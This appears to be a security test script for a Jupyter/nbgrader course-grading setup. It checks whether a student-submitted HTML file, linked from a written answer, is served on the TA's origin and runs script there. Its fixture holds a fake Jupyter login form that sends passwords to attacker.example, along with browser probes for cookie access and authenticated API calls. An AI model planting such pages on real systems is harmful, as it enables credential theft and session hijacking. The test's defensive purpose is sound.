"""Round 36 stopped copying handed-in files into autograded/ because an HTML file there was served on the TA's
origin. submitted/ still holds every handed-in file, and `make lab` serves the whole course folder
(--notebook-dir=.). A written answer keeps relative links (bleach restricts schemes only). mallory hands in
figure.html beside her notebook and links it from a written answer; the TA's Jupyter server (as in `make lab`) is
asked for the link's target: is it served, on the TA's origin, as HTML, and with what confinement?"""
from lib import *
import urllib.request, secrets, socket
A = "ps1_memory"
d = make_course("a17")
hand_in(d, "aaron", A, honest(A))
nb = honest(A)
for c in nb.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit":
        c.source = "My figure: [see the plot](/files/submitted/mallory/ps1_memory/figure.html)."
HTML = ("<html><body><h3>Jupyter session expired</h3><form action='https://attacker.example/steal'>"
        "token or password: <input name=p type=password><button>log in</button></form>"
        "<script>document.title='Jupyter'; document.body.insertAdjacentHTML('beforeend','<p id=js>script ran</p>')</script></body></html>")
hand_in(d, "mallory", A, nb, extra={"figure.html": HTML})
hand_in(d, "zoe", A, honest(A))
grade(d, A)
os.system(f"cat {d}/grades.csv")
g = nbformat.read(f"{d}/autograded/mallory/{A}/{A}.ipynb", as_version=4)
print("GRADED ANSWER:", [c.source for c in g.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit"])
tok = secrets.token_hex(8); port = 18937
srv = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "server",
                        f"--ServerApp.root_dir={d}", f"--IdentityProvider.token={tok}", f"--port={port}", "--no-browser"],
                       env=dict(ENV, PYTHONSAFEPATH="1", HOME="/tmp", DISTCOURSE_JUDGE="kernel"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=d)
try:
    for _ in range(60):
        try: socket.create_connection(("127.0.0.1", port), 1).close(); break
        except OSError: time.sleep(0.5)
    r = urllib.request.urlopen(f"http://127.0.0.1:{port}/files/submitted/mallory/{A}/figure.html?token={tok}")
    print("STATUS", r.status); print("Content-Type:", r.headers["Content-Type"]); print("CSP:", r.headers["Content-Security-Policy"])
    print("BODY", r.read()[:120])
    sys.path.insert(0, os.path.dirname(__file__))
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = b.new_page()
        page.goto(f"http://127.0.0.1:{port}/api/status?token={tok}")  # the TA, logged in (cookie)
        page.goto(f"http://127.0.0.1:{port}/files/submitted/mallory/{A}/figure.html?token={tok}")  # the link, clicked (as the logged-in TA)
        print("BROWSER url", page.url, "title", page.title(), "| script ran:", page.locator("#js").count() == 1,
              "| origin:", page.evaluate("self.origin"),
              "| cookie readable:", page.evaluate("(() => { try { return document.cookie.length > 0 } catch (e) { return 'no: ' + e.name } })()"),
              "| API with the TA's cookie:", page.evaluate("fetch('/api/contents', {credentials: 'include'}).then(r => r.status).catch(e => 'refused: ' + e.name)"))
        b.close()
finally:
    srv.terminate(); srv.wait(10)
